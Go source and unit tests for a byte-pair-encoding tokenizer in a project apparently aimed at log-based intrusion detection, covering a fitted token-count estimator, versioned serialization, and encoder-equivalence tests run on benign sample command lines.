			if id < NumSpecials || id >= tok.VocabSize() {
				t.Fatalf("Encode(%q) produced out-of-range id %d", line, id)
			}
		}
		norm := strings.Join(strings.Fields(line), " ")
		if got := tok.Decode(ids); got != norm {
			t.Fatalf("round trip %q: got %q, want %q", line, got, norm)
		}
		// The model form keeps its frame under truncation for any maxLen.
		for _, maxLen := range []int{0, 2, 3, 7, 16} {
			m := tok.EncodeForModel(line, maxLen)
			want := maxLen
			if want < 2 {
				want = 2
			}
			if len(m) > want {
				t.Fatalf("EncodeForModel(%q, %d) has %d tokens", line, maxLen, len(m))
			}
			if m[0] != ClsID || m[len(m)-1] != SepID {
				t.Fatalf("EncodeForModel(%q, %d) frame broken: %v", line, maxLen, m)
			}
		}
	})
}
