package bpe

import (
	"bytes"
	"math"
	"strings"
	"testing"

	"clmids/internal/modality"
)

func fitOn(t testing.TB, tok *Tokenizer, lines []string) *Estimator {
	t.Helper()
	est, err := FitEstimator(tok, lines)
	if err != nil {
		t.Fatalf("FitEstimator: %v", err)
	}
	return est
}

// TestEstimatorBucketAgreement is the satellite accuracy bar: on every
// supported modality, the estimator must place ≥95% of held-out lines in
// the same length bucket as the real tokenizer. Bucketing is the only thing
// the engine uses the estimate for, so bucket agreement is the figure of
// merit — not exact token counts.
func TestEstimatorBucketAgreement(t *testing.T) {
	for _, mod := range []string{modality.Shell, modality.PowerShell, modality.Flows} {
		t.Run(mod, func(t *testing.T) {
			train, test := modalityCorpus(t, mod, 2000, 1000)
			tok, err := Train(train, TrainConfig{VocabSize: 800})
			if err != nil {
				t.Fatalf("Train: %v", err)
			}
			est := fitOn(t, tok, train)
			agree, total := 0, 0
			for _, line := range test {
				// Estimate before encoding, exactly as the engine does: the
				// estimator may not peek at this line's own encoding, only at
				// state earlier traffic left behind.
				guess := est.EstimateTokens(tok, line)
				truth := len(tok.Encode(line))
				if truth == 0 {
					continue
				}
				total++
				if LengthBucket(guess) == LengthBucket(truth) {
					agree++
				}
			}
			if total == 0 {
				t.Fatal("no non-empty test lines")
			}
			frac := float64(agree) / float64(total)
			t.Logf("%s: bucket agreement %.4f (%d/%d), fit MAE %.3f tokens", mod, frac, agree, total, est.MAE)
			if frac < 0.95 {
				t.Fatalf("bucket agreement %.4f < 0.95", frac)
			}
		})
	}
}

func TestEstimatorEdgeCases(t *testing.T) {
	tok := trainSample(t, 500)
	est := fitOn(t, tok, sampleCorpus)
	// Empty and all-whitespace lines must estimate 0, matching Encode.
	for _, line := range []string{"", "   ", "\t\n"} {
		if got := est.EstimateTokens(tok, line); got != 0 {
			t.Errorf("EstimateTokens(%q) = %d, want 0", line, got)
		}
	}
	// Non-empty lines estimate at least one token.
	if got := est.EstimateTokens(tok, "x"); got < 1 {
		t.Errorf("EstimateTokens(\"x\") = %d, want >= 1", got)
	}
	// The model form is clamped to [2, maxLen], like EncodeForModel.
	long := strings.Repeat("verylongword ", 50)
	if got := est.EstimateForModel(tok, long, 16); got != 16 {
		t.Errorf("EstimateForModel(long, 16) = %d, want 16", got)
	}
	if got := est.EstimateForModel(tok, "", 16); got != 2 {
		t.Errorf("EstimateForModel(\"\", 16) = %d, want 2", got)
	}
	if got := est.EstimateForModel(tok, "ls", -1); got != 2 {
		t.Errorf("EstimateForModel(ls, -1) = %d, want 2 (clamp)", got)
	}
}

func TestEstimatorZeroAlloc(t *testing.T) {
	tok := trainSample(t, 500)
	est := fitOn(t, tok, sampleCorpus)
	line := "docker run --rm -it ubuntu bash -c 'ls -la /data'"
	if n := testing.AllocsPerRun(100, func() { est.EstimateTokens(tok, line) }); n != 0 {
		t.Errorf("EstimateTokens allocs/op = %v, want 0", n)
	}
}

func TestFitEstimatorEmptyCorpus(t *testing.T) {
	tok := trainSample(t, 400)
	if _, err := FitEstimator(tok, nil); err == nil {
		t.Fatal("expected error on empty fitting corpus")
	}
}

func TestFitEstimatorDegenerateCorpus(t *testing.T) {
	// All-identical lines make the normal equations rank-deficient; the
	// ridge term must keep the fit finite and useful.
	tok := trainSample(t, 400)
	lines := make([]string, 50)
	for i := range lines {
		lines[i] = "ls -la /tmp"
	}
	est := fitOn(t, tok, lines)
	truth := len(tok.Encode("ls -la /tmp"))
	if got := est.EstimateTokens(tok, "ls -la /tmp"); got != truth {
		t.Fatalf("degenerate fit estimates %d, truth %d", got, truth)
	}
	for _, w := range est.Weights {
		if math.IsNaN(w) || math.IsInf(w, 0) {
			t.Fatalf("degenerate fit produced non-finite weight %v", est.Weights)
		}
	}
}

func TestEstimatorDeterministic(t *testing.T) {
	tok := trainSample(t, 500)
	a := fitOn(t, tok, sampleCorpus)
	b := fitOn(t, tok, sampleCorpus)
	if a.Weights != b.Weights {
		t.Fatalf("fitting is not deterministic:\n%v\n%v", a.Weights, b.Weights)
	}
}

func TestEstimatorSaveLoadRoundTrip(t *testing.T) {
	tok := trainSample(t, 500)
	est := fitOn(t, tok, sampleCorpus)
	var buf bytes.Buffer
	if err := est.Save(&buf); err != nil {
		t.Fatalf("Save: %v", err)
	}
	first := buf.String()
	loaded, err := LoadEstimator(&buf)
	if err != nil {
		t.Fatalf("LoadEstimator: %v", err)
	}
	if loaded.Weights != est.Weights || loaded.MAE != est.MAE {
		t.Fatalf("round trip changed estimator: %+v vs %+v", loaded, est)
	}
	// Serialization must be byte-deterministic for bundle content addressing.
	var buf2 bytes.Buffer
	if err := est.Save(&buf2); err != nil {
		t.Fatalf("Save: %v", err)
	}
	if buf2.String() != first {
		t.Fatal("Save is not byte-deterministic")
	}
}

func TestLoadEstimatorRejectsGarbage(t *testing.T) {
	bad := []string{
		"",
		"not-a-header\n{}",
		"clmids-estimator v1\nnot-json",
		"clmids-estimator v1\n{\"weights\":[1e999,0,0,0,0,0,0,0,0],\"mae\":0}",
	}
	for _, in := range bad {
		if _, err := LoadEstimator(strings.NewReader(in)); err == nil {
			t.Errorf("LoadEstimator(%q): expected error", in)
		}
	}
}

func TestTokenizerEstimatorAttach(t *testing.T) {
	tok := trainSample(t, 500)
	if tok.Estimator() != nil {
		t.Fatal("fresh tokenizer should have no estimator")
	}
	est := fitOn(t, tok, sampleCorpus)
	tok.SetEstimator(est)
	if tok.Estimator() != est {
		t.Fatal("SetEstimator did not attach")
	}
	tok.SetEstimator(nil)
	if tok.Estimator() != nil {
		t.Fatal("SetEstimator(nil) did not detach")
	}
}

func TestLengthBucket(t *testing.T) {
	if LengthBucket(-1) != 0 {
		t.Error("negative counts must land in bucket 0")
	}
	if LengthBucket(7) != 0 || LengthBucket(8) != 1 || LengthBucket(16) != 2 {
		t.Error("bucket width is not 8")
	}
}
