package bpe

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"math"
	"unicode"
	"unicode/utf8"
)

// The token-count estimator (ROADMAP item 3): predicts how many tokens
// Encode would produce for a line without running the merge loop. Each
// field resolves through two tiers, both O(field) with no allocation:
//
//   - exact: a field that is one vocabulary token (single probe of the
//     whole-word table finalize compiles) counts 1; a field sitting in the
//     word cache counts its cached length (single peek, no merge loop).
//   - predicted: a first-sighted field goes through a per-field linear
//     model over char-class features (byte classes, digit/alnum run shape,
//     learned-n-gram hits) fitted against the real tokenizer at train time
//     — the technique tokenest applies to LLM cost estimation.
//
// The estimate is strictly advisory: the inference engine uses it only to
// length-bucket batches before encoding, and per-line model outputs are
// batch-composition-invariant, so a wrong estimate can reorder work but
// never change a score.

// estFeatures is the per-field feature count including the leading bias
// term. The features are part of the serialized format: changing them
// requires a new format header.
const estFeatures = 14

// estimatorHeader versions the on-disk estimator format.
const estimatorHeader = "clmids-estimator v1"

// Estimator holds the fitted per-field coefficients. Estimation needs the
// tokenizer it was fitted against (for the whole-word table, n-gram bitmap
// and word cache), so the entry points are (*Tokenizer).EstimateTokens /
// EstimateForModel after SetEstimator, or the explicit-tokenizer methods
// below. The zero value is unusable; build one with FitEstimator or
// LoadEstimator. An Estimator is immutable and safe for concurrent use.
type Estimator struct {
	// Weights are the linear coefficients, bias first, in fieldFeatures
	// order.
	Weights [estFeatures]float64 `json:"weights"`
	// MAE is the mean absolute per-line token-count error measured by
	// replaying the fitting corpus in serving order (informational).
	MAE float64 `json:"mae"`
}

// fieldIter walks a line's fields with the same Unicode-whitespace
// boundaries as the encoder, without allocating.
type fieldIter struct {
	line  string
	pos   int
	first bool
}

func newFieldIter(line string) fieldIter { return fieldIter{line: line, first: true} }

// next returns the next field and whether the encoder would prefix it with
// a space; ok is false when the line is exhausted.
func (it *fieldIter) next() (field string, withSpace, ok bool) {
	line := it.line
	i := it.pos
	for i < len(line) {
		r, size := rune(line[i]), 1
		if r >= utf8.RuneSelf {
			r, size = utf8.DecodeRuneInString(line[i:])
		}
		if !unicode.IsSpace(r) {
			break
		}
		i += size
	}
	if i >= len(line) {
		it.pos = len(line)
		return "", false, false
	}
	j := i
	for j < len(line) {
		r, size := rune(line[j]), 1
		if r >= utf8.RuneSelf {
			r, size = utf8.DecodeRuneInString(line[j:])
		}
		if unicode.IsSpace(r) {
			break
		}
		j += size
	}
	it.pos = j
	withSpace = !it.first
	it.first = false
	return line[i:j], withSpace, true
}

// exactTokens reports the field's token count when the tokenizer already
// knows it: whole-vocabulary-token fields are 1, word-cache residents are
// their cached length.
func (t *Tokenizer) exactTokens(field string, withSpace bool, cache *wordCache) (int, bool) {
	want := wholeBare
	if withSpace {
		want = wholeWithSpace
	}
	if t.wholeWords[field]&want != 0 {
		return 1, true
	}
	return cache.peek(wordKey{w: field, sp: withSpace})
}

// fieldFeatures computes one field's char-class feature vector in a single
// byte pass. Features (after the bias):
//
//	bytes        field length (tokens never exceed bytes)
//	letters      ASCII lowercase letters — the mass BPE compresses best
//	uppers       ASCII uppercase letters (CamelCase cmdlets and paths
//	             merge differently from lowercase mass)
//	caseFlips    lower-to-upper transitions — CamelCase segment count
//	digits       ASCII digits — counters and ports merge poorly
//	punct        other printable ASCII — flag dashes, slashes, quotes
//	other        high/control bytes — near one token per byte
//	digitRuns    maximal digit runs (a run shape costs ~O(1) tokens extra)
//	alnumRuns    maximal alphanumeric runs (hex ids, hashes, hostnames)
//	bigramHits   adjacent byte pairs that are learned 2-byte tokens — the
//	             direct compressibility signal (one bitmap probe each)
//	trigramHits  3-byte substrings that are learned tokens
//	fourgramHits 4-byte substrings that are learned tokens (substring map
//	             probes; still far cheaper than the merge loop)
//	greedyToks   tokens in a greedy longest-match parse of the field —
//	             close to the true BPE segmentation; the fitted weight
//	             calibrates its bias
func (t *Tokenizer) fieldFeatures(field string, withSpace bool, f *[estFeatures]float64) {
	var letters, uppers, caseFlips, digits, punct, other, digitRuns, alnumRuns int
	var bigramHits, trigramHits, fourgramHits int
	inDigits, inAlnum, inLower := false, false, false
	for k := 0; k < len(field); k++ {
		c := field[k]
		isDigit := c >= '0' && c <= '9'
		isLower := c >= 'a' && c <= 'z'
		isUpper := c >= 'A' && c <= 'Z'
		isLetter := isLower || isUpper
		switch {
		case isDigit:
			digits++
		case isLower:
			letters++
		case isUpper:
			uppers++
			if inLower {
				caseFlips++
			}
		case c >= 0x20 && c < 0x7f:
			punct++
		default:
			other++
		}
		inLower = isLower
		if isDigit && !inDigits {
			digitRuns++
		}
		inDigits = isDigit
		if (isDigit || isLetter) && !inAlnum {
			alnumRuns++
		}
		inAlnum = isDigit || isLetter
		if k+1 < len(field) {
			idx := uint32(c)<<8 | uint32(field[k+1])
			if t.twoGram[idx>>6]&(1<<(idx&63)) != 0 {
				bigramHits++
			}
		}
		if k+2 < len(field) {
			if _, ok := t.vocab[field[k:k+3]]; ok {
				trigramHits++
			}
		}
		if k+3 < len(field) {
			if _, ok := t.vocab[field[k:k+4]]; ok {
				fourgramHits++
			}
		}
	}
	f[0] = 1
	f[1] = float64(len(field))
	f[2] = float64(letters)
	f[3] = float64(uppers)
	f[4] = float64(caseFlips)
	f[5] = float64(digits)
	f[6] = float64(punct)
	f[7] = float64(other)
	f[8] = float64(digitRuns)
	f[9] = float64(alnumRuns)
	f[10] = float64(bigramHits)
	f[11] = float64(trigramHits)
	f[12] = float64(fourgramHits)
	f[13] = float64(t.greedyTokens(field, withSpace))
}

// greedyTokens parses the field greedily, consuming the longest vocabulary
// token at each position (probe depth capped by finalize). The first token
// of a space-carrying field is matched in its space-prefixed form — that is
// where BPE concentrates its biggest learned tokens (" C:\\Users\\..."), so
// probing bare bytes there would systematically over-count. Greedy
// longest-match is not the BPE merge order, but it tracks it closely and
// the regression absorbs the systematic difference.
func (t *Tokenizer) greedyTokens(field string, withSpace bool) int {
	n := 0
	for i := 0; i < len(field); {
		l := t.maxTokLen
		if rem := len(field) - i; l > rem {
			l = rem
		}
		want := wholeBare
		if i == 0 && withSpace {
			want = wholeWithSpace
		}
		step := 1
		for ; l >= 2; l-- {
			if t.wholeWords[field[i:i+l]]&want != 0 {
				step = l
				break
			}
		}
		i += step
		n++
	}
	return n
}

// predictField runs the fitted model on one first-sighted field, clamped to
// the hard bounds [1, bytes(+space)].
func (e *Estimator) predictField(t *Tokenizer, field string, withSpace bool) int {
	var f [estFeatures]float64
	t.fieldFeatures(field, withSpace, &f)
	sum := 0.0
	for i := 0; i < estFeatures; i++ {
		sum += e.Weights[i] * f[i]
	}
	n := int(math.Round(sum))
	if n < 1 {
		n = 1
	}
	max := len(field)
	if withSpace {
		max++
	}
	if n > max {
		n = max
	}
	return n
}

// FitEstimator fits the per-field model against the real tokenizer on a
// corpus by ridge-regularized least squares (normal equations; the tiny
// ridge term only guards against degenerate corpora). The word cache is
// reset first so fitting is deterministic for a given corpus, and each
// field is sampled at first sighting — before its line is encoded — so the
// model trains on exactly the fields that would be unknown at serve time;
// repeat fields flow through the exact tier just as they do in production.
// Per-field ground truth is peeked from the word cache the encode pass
// fills. The cache is left warm with the fitting corpus.
func FitEstimator(tok *Tokenizer, lines []string) (*Estimator, error) {
	if len(lines) == 0 {
		return nil, fmt.Errorf("bpe: estimator needs a non-empty fitting corpus")
	}
	tok.ResetEncodeCache()
	cache := tok.cache.Load()
	var xtx [estFeatures][estFeatures]float64
	var xty [estFeatures]float64
	var f [estFeatures]float64
	var buf []int
	type pending struct {
		field     string
		withSpace bool
	}
	var newFields []pending
	for _, line := range lines {
		newFields = newFields[:0]
		it := newFieldIter(line)
		for {
			field, withSpace, ok := it.next()
			if !ok {
				break
			}
			if _, known := tok.exactTokens(field, withSpace, cache); !known {
				newFields = append(newFields, pending{field, withSpace})
			}
		}
		buf = tok.EncodeInto(buf[:0], line)
		for _, p := range newFields {
			y, ok := cache.peek(wordKey{w: p.field, sp: p.withSpace})
			if !ok {
				continue // evicted mid-corpus; vanishingly rare, just skip
			}
			tok.fieldFeatures(p.field, p.withSpace, &f)
			for i := 0; i < estFeatures; i++ {
				for j := 0; j < estFeatures; j++ {
					xtx[i][j] += f[i] * f[j]
				}
				xty[i] += f[i] * float64(y)
			}
		}
	}
	ridge := 0.0
	for i := 0; i < estFeatures; i++ {
		ridge += xtx[i][i]
	}
	ridge = ridge/estFeatures*1e-9 + 1e-9
	for i := 0; i < estFeatures; i++ {
		xtx[i][i] += ridge
	}
	w, err := solveNormal(&xtx, &xty)
	if err != nil {
		return nil, err
	}
	est := &Estimator{Weights: w}
	// Measure MAE by replaying the corpus in serving order: estimate each
	// line before encoding it, against a cache holding only earlier lines.
	tok.ResetEncodeCache()
	var sumAbs float64
	for _, line := range lines {
		guess := est.EstimateTokens(tok, line)
		buf = tok.EncodeInto(buf[:0], line)
		sumAbs += math.Abs(float64(guess) - float64(len(buf)))
	}
	est.MAE = sumAbs / float64(len(lines))
	return est, nil
}

// solveNormal solves the ridged normal equations by Gaussian elimination
// with partial pivoting.
func solveNormal(a *[estFeatures][estFeatures]float64, b *[estFeatures]float64) ([estFeatures]float64, error) {
	var m [estFeatures][estFeatures + 1]float64
	for i := 0; i < estFeatures; i++ {
		copy(m[i][:estFeatures], a[i][:])
		m[i][estFeatures] = b[i]
	}
	for col := 0; col < estFeatures; col++ {
		piv := col
		for r := col + 1; r < estFeatures; r++ {
			if math.Abs(m[r][col]) > math.Abs(m[piv][col]) {
				piv = r
			}
		}
		if m[piv][col] == 0 {
			return [estFeatures]float64{}, fmt.Errorf("bpe: singular estimator system at column %d", col)
		}
		m[col], m[piv] = m[piv], m[col]
		for r := col + 1; r < estFeatures; r++ {
			factor := m[r][col] / m[col][col]
			for c := col; c <= estFeatures; c++ {
				m[r][c] -= factor * m[col][c]
			}
		}
	}
	var w [estFeatures]float64
	for i := estFeatures - 1; i >= 0; i-- {
		sum := m[i][estFeatures]
		for j := i + 1; j < estFeatures; j++ {
			sum -= m[i][j] * w[j]
		}
		w[i] = sum / m[i][i]
	}
	return w, nil
}

// EstimateTokens predicts len(Encode(line)) — zero exactly when the line
// has no fields (matching the encoder), otherwise at least one token per
// field. Fields the tokenizer already knows (whole vocabulary tokens,
// cached words) are counted exactly; only first-sighted fields go through
// the fitted model.
func (e *Estimator) EstimateTokens(t *Tokenizer, line string) int {
	cache := t.cache.Load()
	total := 0
	it := newFieldIter(line)
	for {
		field, withSpace, ok := it.next()
		if !ok {
			return total
		}
		if n, known := t.exactTokens(field, withSpace, cache); known {
			total += n
			continue
		}
		total += e.predictField(t, field, withSpace)
	}
}

// EstimateForModel predicts len(EncodeForModel(line, maxLen)): the body
// estimate plus the [CLS]/[SEP] frame, clamped to [2, maxLen] exactly as
// the encoder clamps.
func (e *Estimator) EstimateForModel(t *Tokenizer, line string, maxLen int) int {
	if maxLen < 2 {
		maxLen = 2
	}
	n := e.EstimateTokens(t, line) + 2
	if n > maxLen {
		n = maxLen
	}
	return n
}

// LengthBucket maps a token count to the coarse length class used to judge
// estimator quality: batches assembled from same-bucket lines have
// near-uniform sequence lengths, which is all bucketing is for. Width 8
// matches the engine's token-budget granularity at typical MaxSeqLen.
func LengthBucket(n int) int {
	if n < 0 {
		return 0
	}
	return n / 8
}

// Save writes the estimator in its versioned format (a header line
// followed by canonical JSON). Serialization is deterministic, so the
// bundle layer's content addressing sees identical bytes for identical
// fits.
func (e *Estimator) Save(w io.Writer) error {
	bw := bufio.NewWriter(w)
	fmt.Fprintln(bw, estimatorHeader)
	js, err := json.Marshal(e)
	if err != nil {
		return err
	}
	bw.Write(js)
	bw.WriteByte('\n')
	return bw.Flush()
}

// LoadEstimator reads an estimator previously written by Save.
func LoadEstimator(r io.Reader) (*Estimator, error) {
	br := bufio.NewReader(r)
	header, err := br.ReadString('\n')
	if err != nil {
		return nil, fmt.Errorf("bpe: reading estimator header: %w", err)
	}
	if header != estimatorHeader+"\n" {
		return nil, fmt.Errorf("bpe: bad estimator header %q", header)
	}
	var est Estimator
	dec := json.NewDecoder(br)
	if err := dec.Decode(&est); err != nil {
		return nil, fmt.Errorf("bpe: decoding estimator: %w", err)
	}
	for i, w := range est.Weights {
		if math.IsNaN(w) || math.IsInf(w, 0) {
			return nil, fmt.Errorf("bpe: estimator weight %d is not finite", i)
		}
	}
	return &est, nil
}

// SetEstimator attaches (or with nil, detaches) a token-count estimator.
// Engines over this tokenizer pick it up for batch bucketing; scores never
// depend on it. Safe to call while the tokenizer is serving.
func (t *Tokenizer) SetEstimator(e *Estimator) { t.est.Store(e) }

// Estimator returns the attached token-count estimator, or nil.
func (t *Tokenizer) Estimator() *Estimator { return t.est.Load() }

// EstimateTokens predicts len(Encode(line)) via the attached estimator.
// The second result is false when no estimator is attached.
func (t *Tokenizer) EstimateTokens(line string) (int, bool) {
	e := t.est.Load()
	if e == nil {
		return 0, false
	}
	return e.EstimateTokens(t, line), true
}

// EstimateForModel predicts len(EncodeForModel(line, maxLen)) via the
// attached estimator. The second result is false when no estimator is
// attached.
func (t *Tokenizer) EstimateForModel(line string, maxLen int) (int, bool) {
	e := t.est.Load()
	if e == nil {
		return 0, false
	}
	return e.EstimateForModel(t, line, maxLen), true
}
