package bpe

import (
	"bufio"
	"fmt"
	"io"
	"sort"
	"strconv"
	"strings"
)

// The on-disk format is line-oriented and uses Go quoting so that arbitrary
// byte sequences survive the round trip (JSON would mangle non-UTF-8 bytes):
//
//	clmids-bpe v1
//	vocab <n>
//	"<token>"            (n lines, in ID order)
//	merges <m>
//	"<a>" "<b>"          (m lines, in rank order)

const formatHeader = "clmids-bpe v1"

// Save writes the tokenizer to w in the versioned text format.
func (t *Tokenizer) Save(w io.Writer) error {
	bw := bufio.NewWriter(w)
	fmt.Fprintln(bw, formatHeader)
	fmt.Fprintf(bw, "vocab %d\n", len(t.inv))
	for _, tok := range t.inv {
		fmt.Fprintln(bw, strconv.Quote(tok))
	}
	merges := make([]pair, len(t.ranks))
	for p, r := range t.ranks {
		merges[r] = p
	}
	fmt.Fprintf(bw, "merges %d\n", len(merges))
	for _, p := range merges {
		fmt.Fprintf(bw, "%s %s\n", strconv.Quote(p.a), strconv.Quote(p.b))
	}
	return bw.Flush()
}

// Load reads a tokenizer previously written by Save.
func Load(r io.Reader) (*Tokenizer, error) {
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 1<<20)
	read := func() (string, error) {
		if !sc.Scan() {
			if err := sc.Err(); err != nil {
				return "", err
			}
			return "", io.ErrUnexpectedEOF
		}
		return sc.Text(), nil
	}

	line, err := read()
	if err != nil {
		return nil, fmt.Errorf("bpe: reading header: %w", err)
	}
	if line != formatHeader {
		return nil, fmt.Errorf("bpe: bad header %q", line)
	}

	line, err = read()
	if err != nil {
		return nil, fmt.Errorf("bpe: reading vocab size: %w", err)
	}
	var n int
	if _, err := fmt.Sscanf(line, "vocab %d", &n); err != nil {
		return nil, fmt.Errorf("bpe: bad vocab line %q: %w", line, err)
	}
	if n < baseVocab || n > 1<<24 {
		return nil, fmt.Errorf("bpe: implausible vocab size %d", n)
	}

	t := &Tokenizer{
		vocab: make(map[string]int, n),
		inv:   make([]string, 0, n),
		ranks: make(map[pair]int),
	}
	for i := 0; i < n; i++ {
		line, err = read()
		if err != nil {
			return nil, fmt.Errorf("bpe: reading token %d: %w", i, err)
		}
		tok, err := strconv.Unquote(line)
		if err != nil {
			return nil, fmt.Errorf("bpe: bad token line %q: %w", line, err)
		}
		t.vocab[tok] = len(t.inv)
		t.inv = append(t.inv, tok)
	}

	line, err = read()
	if err != nil {
		return nil, fmt.Errorf("bpe: reading merge count: %w", err)
	}
	var m int
	if _, err := fmt.Sscanf(line, "merges %d", &m); err != nil {
		return nil, fmt.Errorf("bpe: bad merges line %q: %w", line, err)
	}
	for i := 0; i < m; i++ {
		line, err = read()
		if err != nil {
			return nil, fmt.Errorf("bpe: reading merge %d: %w", i, err)
		}
		a, b, err := splitQuotedPair(line)
		if err != nil {
			return nil, fmt.Errorf("bpe: bad merge line %q: %w", line, err)
		}
		t.ranks[pair{a, b}] = i
	}
	if err := t.validate(); err != nil {
		return nil, err
	}
	t.finalize()
	return t, nil
}

// splitQuotedPair parses `"a" "b"` where both halves are Go-quoted strings.
func splitQuotedPair(line string) (string, string, error) {
	line = strings.TrimSpace(line)
	if len(line) == 0 || line[0] != '"' {
		return "", "", fmt.Errorf("missing opening quote")
	}
	// Find the end of the first quoted string by scanning for an unescaped
	// quote.
	end := -1
	for i := 1; i < len(line); i++ {
		if line[i] == '\\' {
			i++
			continue
		}
		if line[i] == '"' {
			end = i
			break
		}
	}
	if end < 0 {
		return "", "", fmt.Errorf("unterminated first quote")
	}
	a, err := strconv.Unquote(line[:end+1])
	if err != nil {
		return "", "", err
	}
	rest := strings.TrimSpace(line[end+1:])
	b, err := strconv.Unquote(rest)
	if err != nil {
		return "", "", err
	}
	return a, b, nil
}

// MergeList returns the learned merges in rank order, rendered for
// inspection tools.
func (t *Tokenizer) MergeList() []string {
	merges := make([]pair, len(t.ranks))
	for p, r := range t.ranks {
		merges[r] = p
	}
	out := make([]string, len(merges))
	for i, p := range merges {
		out[i] = strconv.Quote(p.a) + "+" + strconv.Quote(p.b)
	}
	return out
}

// TopTokens returns up to n longest learned tokens, longest first; useful
// for qualitative inspection of what the vocabulary captured (command names,
// flag clusters, URL fragments).
func (t *Tokenizer) TopTokens(n int) []string {
	learned := make([]string, 0, len(t.inv))
	learned = append(learned, t.inv[baseVocab:]...)
	sort.Slice(learned, func(i, j int) bool {
		if len(learned[i]) != len(learned[j]) {
			return len(learned[i]) > len(learned[j])
		}
		return learned[i] < learned[j]
	})
	if n > len(learned) {
		n = len(learned)
	}
	return learned[:n]
}
