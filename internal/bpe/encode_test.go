package bpe

import (
	"fmt"
	"reflect"
	"strings"
	"testing"

	"clmids/internal/corpus"
	"clmids/internal/modality"
)

// refEncode is the original string-rescan encoder, kept verbatim as the
// golden reference for the heap-based hot path: lowest-rank merge first,
// leftmost occurrence on ties, full rescan after every merge.
func refEncode(t *Tokenizer, line string) []int {
	var out []int
	for _, word := range Pretokenize(line) {
		symbols := make([]string, 0, len(word))
		for i := 0; i < len(word); i++ {
			symbols = append(symbols, word[i:i+1])
		}
		for len(symbols) > 1 {
			best := -1
			bestRank := int(^uint(0) >> 1)
			for i := 0; i < len(symbols)-1; i++ {
				if r, ok := t.ranks[pair{symbols[i], symbols[i+1]}]; ok && r < bestRank {
					bestRank = r
					best = i
				}
			}
			if best < 0 {
				break
			}
			merged := symbols[best] + symbols[best+1]
			symbols[best] = merged
			symbols = append(symbols[:best+1], symbols[best+2:]...)
		}
		for _, s := range symbols {
			if id, ok := t.vocab[s]; ok {
				out = append(out, id)
			} else {
				out = append(out, UnkID)
			}
		}
	}
	return out
}

// modalityCorpus synthesizes train+test lines for one log modality.
func modalityCorpus(t testing.TB, name string, trainLines, testLines int) (train, test []string) {
	t.Helper()
	cfg := corpus.DefaultConfig()
	cfg.TrainLines = trainLines
	cfg.TestLines = testLines
	cfg.Modality = name
	cfg.Seed = 42
	tr, te, err := corpus.Generate(cfg)
	if err != nil {
		t.Fatalf("corpus.Generate(%s): %v", name, err)
	}
	return tr.Lines(), te.Lines()
}

// TestEncodeMatchesReference pins byte-identical output of the heap encoder
// against the original rescan algorithm across every supported log
// modality, on both in-vocabulary (train) and unseen (test) lines.
func TestEncodeMatchesReference(t *testing.T) {
	for _, mod := range []string{modality.Shell, modality.PowerShell, modality.Flows} {
		t.Run(mod, func(t *testing.T) {
			train, test := modalityCorpus(t, mod, 1200, 600)
			tok, err := Train(train, TrainConfig{VocabSize: 800})
			if err != nil {
				t.Fatalf("Train: %v", err)
			}
			for _, line := range append(append([]string{}, train...), test...) {
				want := refEncode(tok, line)
				got := tok.Encode(line)
				if len(want) == 0 && len(got) == 0 {
					continue
				}
				if !reflect.DeepEqual(got, want) {
					t.Fatalf("encoder diverges from reference on %q:\n new %v\n old %v", line, got, want)
				}
			}
		})
	}
}

// TestEncodeMatchesReferenceAdversarial exercises shapes the synthetic
// corpora underrepresent: long repeats, overlapping merge candidates,
// non-UTF-8 bytes, and Unicode whitespace.
func TestEncodeMatchesReferenceAdversarial(t *testing.T) {
	tok := trainSample(t, 700)
	lines := []string{
		"",
		"   ",
		"\t\n\v\f\r",
		"a",
		strings.Repeat("a", 200),
		strings.Repeat("ab", 100),
		strings.Repeat("aa ", 50),
		strings.Repeat("docker ", 30),
		"ls\u00a0-la\u2003/tmp", // Unicode spaces are field separators
		string([]byte{0xff, 0xfe, 'l', 's', 0x80}),
		"-----------------",
		"///..///..///",
		"\x00\x01\x02 ls",
	}
	for _, line := range lines {
		want := refEncode(tok, line)
		got := tok.Encode(line)
		if len(want) == 0 && len(got) == 0 {
			continue
		}
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("encoder diverges from reference on %q:\n new %v\n old %v", line, got, want)
		}
	}
}

// TestEncodeOutputIsPrivate pins the satellite fix for the old cache
// aliasing bug: Encode's return is the caller's to mutate, so scribbling on
// it must not corrupt later encodes of the same line.
func TestEncodeOutputIsPrivate(t *testing.T) {
	tok := trainSample(t, 500)
	line := "docker run --rm -it ubuntu bash"
	first := tok.Encode(line)
	want := append([]int{}, first...)
	for i := range first {
		first[i] = -777
	}
	if got := tok.Encode(line); !reflect.DeepEqual(got, want) {
		t.Fatalf("mutating Encode output corrupted the cache: got %v, want %v", got, want)
	}
	// Same for the model form.
	m := tok.EncodeForModel(line, 32)
	wantM := append([]int{}, m...)
	for i := range m {
		m[i] = -777
	}
	if got := tok.EncodeForModel(line, 32); !reflect.DeepEqual(got, wantM) {
		t.Fatalf("mutating EncodeForModel output corrupted the cache: got %v, want %v", got, wantM)
	}
}

// TestEncodeForModelClamp pins the maxLen < 2 clamp: the frame tokens always
// fit.
func TestEncodeForModelClamp(t *testing.T) {
	tok := trainSample(t, 400)
	for _, maxLen := range []int{-3, 0, 1, 2} {
		ids := tok.EncodeForModel("ls -la /tmp", maxLen)
		if len(ids) != 2 || ids[0] != ClsID || ids[1] != SepID {
			t.Fatalf("EncodeForModel(maxLen=%d) = %v, want [CLS SEP]", maxLen, ids)
		}
	}
	// And the append form, on a non-empty dst.
	dst := tok.AppendForModel([]int{99}, "ls -la /tmp", 1)
	if !reflect.DeepEqual(dst, []int{99, ClsID, SepID}) {
		t.Fatalf("AppendForModel(maxLen=1) = %v, want [99 CLS SEP]", dst)
	}
}

// TestAppendForModelMatchesEncodeForModel checks the scratch-free append
// form produces the same tokens as the allocating form at every truncation
// point.
func TestAppendForModelMatchesEncodeForModel(t *testing.T) {
	tok := trainSample(t, 600)
	buf := make([]int, 0, 128)
	for _, line := range sampleCorpus {
		for maxLen := 2; maxLen <= 40; maxLen++ {
			want := tok.EncodeForModel(line, maxLen)
			buf = tok.AppendForModel(buf[:0], line, maxLen)
			if !reflect.DeepEqual(append([]int{}, buf...), want) {
				t.Fatalf("AppendForModel(%q, %d) = %v, want %v", line, maxLen, buf, want)
			}
			if len(want) > maxLen {
				t.Fatalf("EncodeForModel(%q, %d) overflows: %d tokens", line, maxLen, len(want))
			}
		}
	}
}

